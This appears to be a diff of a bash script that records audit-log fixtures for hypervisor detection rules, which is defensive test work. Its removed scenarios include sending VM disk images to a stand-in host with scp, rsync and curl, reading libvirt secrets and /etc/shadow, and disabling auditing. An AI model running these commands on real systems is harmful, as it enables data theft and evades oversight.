+note_qemu_pids & NOTER=$!
+trap 'kill $NOTER 2>/dev/null; cleanup' EXIT
 
-# ---------------------------------------------------------------------------------------------
-# One scenario per hv rule (or per small group of rules).
+TSV="$OUT/recordings.tsv"
+touch "$TSV"
+note_recording() { # RULESET TAKE NAME ACTOR FILE
+  grep -v -P "^$1\t$2\t$3\t" "$TSV" > "$TSV.new" || true
+  printf '%s\t%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$4" "$(wc -l < "$5")" >> "$TSV.new"
+  { head -1 "$TSV.new" | grep -P '^ruleset\t' || printf 'ruleset\ttake\tname\tactor\tlines\n'; grep -v -P '^ruleset\t' "$TSV.new" | sort; } > "$TSV"
+  rm -f "$TSV.new"
+}
+call_if() { declare -F "$1" >/dev/null && "$1" >/dev/null 2>&1 || true; }
 
-scn_vm_disk_read() {                 # hv: VM disk image read by a process other than qemu
-  qemu-img info "$IMG" >/dev/null                     # excluded: qemu-img (see disk_tool_user)
-  cat "$IMG" > /dev/null
-  dd if="$IMG" of="$WORK/vm1-head.bin" bs=64k count=1 status=none
-  cp "$IMG" "$WORK/vm1-copy.qcow2"
-  python3 -c 'import mmap,sys; f=open(sys.argv[1],"rb"); m=mmap.mmap(f.fileno(),0,prot=mmap.PROT_READ); print(m[:4])' "$IMG"
+record_take() { # RULESET TAKE
+  local rs=$1 take=$2 name actor fn
+  if [[ $take == benign ]]; then
+    for name in "${BENIGN[@]}"; do
+      wanted "$name" || continue
+      run "$name" admin "n_$name" "$OUT/$rs/benign/$name.log" || run "$name" admin "n_$name" "$OUT/$rs/benign/$name.log"
+      call_if "post_n_$name"
+      note_recording "$rs" benign "$name" sudo "$OUT/$rs/benign/$name.log"
+    done
+    return
+  fi
+  for name in "${TECHNIQUES[@]}"; do
+    wanted "$name" || continue
+    if [[ $take == a ]]; then actor=${ACTOR_A[$name]:-root}; else actor=${ACTOR_B[$name]:-sudo}; fi
+    if declare -F "prep_${take}_$name" >/dev/null; then "prep_${take}_$name" >/dev/null 2>&1 || true; else call_if "prep_$name"; fi
+    if ! run "$name" "$actor" "${take}_$name" "$OUT/$rs/$take/$name.log"; then
+      call_if "post_$name"
+      if declare -F "prep_${take}_$name" >/dev/null; then "prep_${take}_$name" >/dev/null 2>&1 || true; else call_if "prep_$name"; fi
+      run "$name" "$actor" "${take}_$name" "$OUT/$rs/$take/$name.log"
+    fi
+    call_if "post_$name"
+    # the recorded actor class: user2 is a second unprivileged user
+    note_recording "$rs" "$take" "$name" "${actor/user2/user}" "$OUT/$rs/$take/$name.log"
+    # Rules removed or auditing switched off by the scenario: the ruleset comes back whole.
+    case $name in audit_rules_removed | audit_disable) load_ruleset "$rs" >/dev/null ;; esac
+  done
 }
-scn_kvm_open() {                     # hv: /dev/kvm opened by a process other than qemu
-  qemu-system-x86_64 -machine none,accel=kvm -nodefaults -display none -monitor none -S & local q=$!
-  sleep 0.6; kill "$q" 2>/dev/null; wait "$q" 2>/dev/null || true   # excluded: qemu itself
-  dd if=/dev/kvm of=/dev/null count=1 status=none || true
-  python3 -c 'import os; fd=os.open("/dev/kvm", os.O_RDWR); print("opened /dev/kvm", fd)' || true
-}
-scn_ptrace_qemu() {                  # hv: ptrace attach to qemu (strace -p, gdb -p)
-  qemu_idle
-  timeout 1 strace -f -p "$QPID" -o /dev/null || true
-  gdb -q -batch -p "$QPID" -ex 'info registers rip' >/dev/null 2>&1 || true
-  kill "$QPID"; wait "$QPID" 2>/dev/null || true
-}
-scn_proc_mem() {                     # hv: /proc/PID/mem of qemu read (dd), command line
-  qemu_idle
-  local start
-  start=$(awk 'NR==1 { split($1, a, "-"); print a[1] }' "/proc/$QPID/maps")
-  dd if="/proc/$QPID/mem" of="$WORK/qemu-mem.bin" bs=4096 count=1 iflag=skip_bytes skip=$((16#$start)) status=none || true
-  kill "$QPID"; wait "$QPID" 2>/dev/null || true
-}
-scn_process_vm_readv() {             # hv: process_vm_readv on qemu
-  qemu_idle
-  python3 "$WORK/vmread.py" "$QPID"
-  kill "$QPID"; wait "$QPID" 2>/dev/null || true
-}
-scn_domain_xml_edit() {              # hv: domain XML written outside libvirt
-  sed -i 's|<vcpu>1</vcpu>|<vcpu>2</vcpu>|' /etc/libvirt/qemu/vm1.xml
-  echo '<!-- hv fixture: hand edit -->' >> /etc/libvirt/qemu/vm1.xml
-}
-scn_svirt_disabled() {               # hv: qemu.conf security_driver = "none"; qemu.conf modified
-  sed -i 's|^#security_driver = "selinux"|security_driver = "none"|' /etc/libvirt/qemu.conf
-  echo 'cgroup_device_acl = [ "/dev/null", "/dev/kvm", "/dev/sda" ]' >> /etc/libvirt/qemu.conf
-}
-scn_disk_tool_user() {               # hv: qemu-img/qemu-nbd/virsh snapshot by an unexpected login user (auid hvop)
-  qemu-img convert -O raw "$IMG" "$WORK/vm1.raw"
-  timeout 1 qemu-nbd --read-only --persistent --bind=127.0.0.1 --port=10809 "$IMG" || true
-  virsh -c test:///default snapshot-create-as test hv-fixture-snap >/dev/null 2>&1 || true
-  virsh -c qemu:///system backup-begin vm1 >/dev/null 2>&1 || true
-}
-scn_memory_dump() {                  # hv: virsh dump; memory dump file written
-  virsh -c test:///default dump test /var/lib/libvirt/qemu/dump/hv-fixture-test.core --memory-only >/dev/null 2>&1 || true
-  virsh -c test:///default dump test /var/lib/libvirt/qemu/dump/hv-fixture-test.core >/dev/null 2>&1 || true
-  virsh -c qemu:///system dump vm1 /var/lib/libvirt/qemu/dump/hv-fixture-vm1.core --memory-only >/dev/null 2>&1 || true
-}
-scn_qemu_child_shell() {             # hv: qemu runs a shell (tap script=)
-  timeout 2 qemu-system-x86_64 -machine none -nodefaults -display none -monitor none \
-    -netdev "tap,id=n0,ifname=hvfxtap0,script=$WORK/ifup.sh,downscript=no" || true
-}
-scn_qemu_child_binary() {            # hv: qemu runs an unexpected program (tap script= an ELF)
-  timeout 2 qemu-system-x86_64 -machine none -nodefaults -display none -monitor none \
-    -netdev "tap,id=n0,ifname=hvfxtap1,script=/usr/bin/id,downscript=no" || true
-}
-scn_guest_exec() {                   # hv: guest agent guest-exec through virsh
-  virsh -c test:///default qemu-agent-command test \
-    '{"execute":"guest-exec","arguments":{"path":"/bin/sh","arg":["-c","id"],"capture-output":true}}' || true
-  virsh -c qemu:///system qemu-agent-command vm1 '{"execute":"guest-exec","arguments":{"path":"/usr/bin/id"}}' || true
-}
-scn_guest_file() {                   # hv: guest agent file access / password reset through virsh
-  virsh -c test:///default qemu-agent-command test '{"execute":"guest-file-open","arguments":{"path":"/etc/shadow","mode":"r"}}' || true
-  virsh -c test:///default set-user-password test root 'hunter2' || true
-}
-scn_qemu_ga_host() {                 # hv: the guest agent runs on the host
-  timeout 2 qemu-ga --method=unix-listen --path="$WORK/qga.sock" --statedir="$WORK" & local g=$!
-  sleep 0.7
-  echo '{"execute":"guest-ping"}' | timeout 1 socat - "UNIX-CONNECT:$WORK/qga.sock" || true
-  wait "$g" 2>/dev/null || true
-}
-scn_nft_vm_chain() {                 # hv: nft changes to hv/libvirt tables; NETFILTER_CFG
-  in_ns nft add table inet hv
-  in_ns nft add chain inet hv quarantine '{ type filter hook forward priority 0; policy accept; }'
-  in_ns nft add rule inet hv quarantine iifname "vnet0" drop
-  in_ns nft flush chain inet hv quarantine
-  in_ns nft add table ip libvirt_network
-  in_ns nft delete table ip libvirt_network
-  in_ns nft delete table inet hv
-}
-scn_iptables_vm_chain() {            # hv: iptables changes to libvirt chains
-  in_ns iptables -N LIBVIRT_FWI
-  in_ns iptables -I LIBVIRT_FWI 1 -o virbr0 -j ACCEPT
-  in_ns iptables -F LIBVIRT_FWI
-  in_ns iptables -X LIBVIRT_FWI
-}
-scn_audit_disable() {                # hv: audit disabled
-  auditctl -e 0
-  auditctl -e 1
-}
-scn_audit_rules_removed() {          # hv: hv's audit rules removed (the script reloads them afterwards)
-  auditctl -W /var/lib/hv -p wa -k hv_self
-  auditctl -D
-}
-scn_kmod_load() {                    # hv: kernel module load/unload attempts
-  insmod "$WORK/hv_fixture.ko" || true
-  rmmod vhost_net || true
-  modprobe kvm_intel || true
-}
-scn_tap_bridge() {                   # hv: tap and bridge created outside libvirt
-  in_ns ip tuntap add dev hvfxtap9 mode tap
-  in_ns ip link add hvfxbr9 type bridge
-  in_ns ip link set hvfxtap9 master hvfxbr9
-  in_ns ip link del hvfxtap9
-  in_ns ip link del hvfxbr9
-}
-scn_promisc() {                      # hv: promiscuous mode on a bridge
-  in_ns ip link add hvfxbr8 type bridge
-  in_ns ip link set hvfxbr8 promisc on
-  in_ns ip link set hvfxbr8 promisc off
-  in_ns ip link del hvfxbr8
-}
-scn_sysctl_forward() {               # hv: ip_forward / rp_filter changed
-  in_ns sysctl -w net.ipv4.ip_forward=1
-  in_ns sysctl -w net.ipv4.conf.all.rp_filter=0
-  in_ns sysctl -w net.ipv4.ip_forward=0
-}
-scn_hv_state_tamper() {              # hv: hv's state and rules written by another program
-  echo 'title: x' > /var/lib/hv/hv-fixture-rule.yml
-  sqlite3 /var/lib/hv/hv-fixture.db 'create table alerts(id integer); delete from alerts;'
-  rm -f /var/lib/hv/hv-fixture-rule.yml /var/lib/hv/hv-fixture.db
-}
-scn_qemu_bin_modified() {            # hv: qemu binary or firmware replaced (identical bytes)
-  cp -p /usr/bin/qemu-system-x86_64 "$WORK/qemu-system-x86_64.orig"
-  cp "$WORK/qemu-system-x86_64.orig" /usr/bin/qemu-system-x86_64
-  cmp "$WORK/qemu-system-x86_64.orig" /usr/bin/qemu-system-x86_64
-  touch /usr/share/qemu/hv-fixture-OVMF_CODE.fd
-  rm /usr/share/qemu/hv-fixture-OVMF_CODE.fd
-}
-scn_vnc_exposed() {                  # hv: qemu with VNC on all interfaces
-  timeout 1 qemu-system-x86_64 -machine none -nodefaults -monitor none -vnc 0.0.0.0:77 || true
-  timeout 1 qemu-system-x86_64 -machine none -nodefaults -monitor none -vnc 127.0.0.1:78 || true
-}
-scn_migrate() {                      # hv: migration to an unexpected URI / migrate to exec:
-  virsh -c test:///default migrate --live test qemu+tcp://192.0.2.10/system || true
-  virsh -c test:///default qemu-monitor-command test '{"execute":"migrate","arguments":{"uri":"exec:cat > /tmp/vm1.state"}}' || true
-}
-scn_disk_exfil() {                   # hv: disk image sent off the host (scp, rsync, curl -T)
-  timeout 3 scp -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no "$IMG" root@192.0.2.10:/tmp/ || true
-  timeout 3 rsync --timeout=2 "$IMG" rsync://192.0.2.10/loot/ || true
-  timeout 3 curl -s -m 2 -T "$IMG" http://192.0.2.10/upload/ || true
-}
-scn_secret_read() {                  # hv: libvirt secret read outside libvirt
-  cat /etc/libvirt/secrets/*.base64 || true
-  virsh -c qemu:///system secret-get-value "$(cat "$WORK/secret.uuid")" || true
-}
-scn_libvirt_sock() {                 # hv: libvirt socket used by a user outside the libvirt group
-  setpriv --reuid=hvop --regid=hvop --clear-groups virsh -c qemu:///system list --all || true
-  setpriv --reuid=hvop --regid=hvop --clear-groups virsh -r -c qemu:///system list --all || true
-}
+
+for rs in "${RULESETS[@]}"; do
+  load_ruleset "$rs"
+  for take in "${TAKES[@]}"; do
+    echo "$rs / take $take"
+    record_take "$rs" "$take"
+  done
+done
 
 # ---------------------------------------------------------------------------------------------
 # Sessions for SigmaHQ's rules.
@@ -478,15 +525,15 @@ virsh -c test:///default vol-list default-pool
 virsh -c test:///default nodeinfo
 virsh -c test:///default dumpxml test
 virsh -c qemu:///system list --all
-virsh -c qemu:///system dominfo vm1
-virsh -c qemu:///system dumpxml vm1
-virsh -c qemu:///system domblklist vm1
+virsh -c qemu:///system dominfo hvfx-vm1
+virsh -c qemu:///system dumpxml hvfx-vm1
+virsh -c qemu:///system domblklist hvfx-vm1
 virsh -c qemu:///system net-list --all
 virsh -c qemu:///system pool-list --all
 virsh -c qemu:///system version
 virsh -c qemu:///system capabilities
-qemu-img info /var/lib/libvirt/images/vm1.qcow2
-qemu-img check /var/lib/libvirt/images/vm1.qcow2
+qemu-img info /var/lib/libvirt/images/hvfx-vm1.qcow2
+qemu-img check /var/lib/libvirt/images/hvfx-vm1.qcow2
 qemu-img create -f qcow2 /tmp/hvfx-scratch.qcow2 16M
 qemu-img info /tmp/hvfx-scratch.qcow2
 rm -f /tmp/hvfx-scratch.qcow2
@@ -519,7 +566,7 @@ rm -rf /tmp/hvfx-repo
 find /etc/libvirt -name '*.xml' -newer /etc/hostname
 find /var/lib/libvirt -maxdepth 2 -type d
 du -sh /var/lib/libvirt/images
-stat /var/lib/libvirt/images/vm1.qcow2
+stat /var/lib/libvirt/images/hvfx-vm1.qcow2
 ls -l /dev/kvm /dev/net/tun
 cat /etc/debian_version
 hostnamectl 2>/dev/null || hostname
@@ -539,11 +586,11 @@ nano --version 2>/dev/null | head -1 || true
 wc -l /etc/passwd
 getent passwd hvadmin
 getent group libvirt
-cat /etc/libvirt/qemu/vm1.xml
-xmllint --noout /etc/libvirt/qemu/vm1.xml 2>/dev/null || true
-md5sum /etc/libvirt/qemu/vm1.xml
-cp /etc/libvirt/qemu/vm1.xml /root/vm1.xml.bak
-rm /root/vm1.xml.bak
+cat /etc/libvirt/qemu/hvfx-vm1.xml
+xmllint --noout /etc/libvirt/qemu/hvfx-vm1.xml 2>/dev/null || true
+md5sum /etc/libvirt/qemu/hvfx-vm1.xml
+cp /etc/libvirt/qemu/hvfx-vm1.xml /root/hvfx-vm1.xml.bak
+rm /root/hvfx-vm1.xml.bak
 openssl version 2>/dev/null || true
 curl -s -m 2 -o /dev/null http://127.0.0.1:9/ || true
 ls -la /etc/nftables.conf
@@ -565,31 +612,16 @@ sha256sum /usr/bin/qemu-img
 clear 2>/dev/null || true
 EOF
 
-# ---------------------------------------------------------------------------------------------
-
-SCENARIOS=(vm_disk_read kvm_open ptrace_qemu proc_mem process_vm_readv domain_xml_edit svirt_disabled disk_tool_user
-  memory_dump qemu_child_shell qemu_child_binary guest_exec guest_file qemu_ga_host nft_vm_chain iptables_vm_chain
-  audit_disable audit_rules_removed kmod_load tap_bridge promisc sysctl_forward hv_state_tamper qemu_bin_modified
-  vnc_exposed migrate disk_exfil secret_read libvirt_sock)
-WANT=("$@")
-wanted() { ((${#WANT[@]} == 0)) || [[ " ${WANT[*]} " == *" $1 "* ]]; }
-
-for s in "${SCENARIOS[@]}"; do
-  wanted "$s" || continue
-  auid=0
-  case $s in disk_tool_user | libvirt_sock | secret_read) auid=$HVOP_UID ;; esac
-  run "$s" "$auid" "scn_$s" "$OUT/$s.log"
-  if [[ $s == audit_rules_removed ]]; then RULES_LOADED=1; delete_hv_rules; load_hv_rules; fi
-  [[ $(kernel_field enabled) == 1 ]] || auditctl -e 1 >/dev/null
-done
-if wanted attack-session; then
-  run attack-session 0 scn_attack_session "$SESSIONS/attack-session.log"
-  RULES_LOADED=1; delete_hv_rules; load_hv_rules   # the session's `auditctl -D` removed them
+if wanted attack-session && ((${#WANT[@]})); then
+  load_ruleset hv
+  run attack-session root scn_attack_session "$SESSIONS/attack-session.log"
   printf '%s\n' "${ATTACK_STEPS[@]}" > "$SESSIONS/attack-session.steps.txt"
 fi
-if wanted benign-session; then
-  run benign-session "$HVADMIN_UID" scn_benign_session "$SESSIONS/benign-session.log"
+if wanted benign-session && ((${#WANT[@]})); then
+  load_ruleset hv
+  run benign-session admin scn_benign_session "$SESSIONS/benign-session.log"
 fi
 
-mkdir -p /tmp/hv-rule-fixtures-out && cp "$WORK"/*.out /tmp/hv-rule-fixtures-out/ 2>/dev/null || true
+# For looking into a recording: every scenario's output and the whole log of this run.
+mkdir -p /tmp/hv-rule-fixtures-out && cp "$WORK"/*.out "$LOG" /tmp/hv-rule-fixtures-out/ 2>/dev/null || true
 echo "recorded with $(dpkg-query -W -f='auditd ${Version}' auditd), kernel $(uname -r), $(qemu-system-x86_64 --version | head -1), $(virsh --version | sed 's/^/libvirt /')"
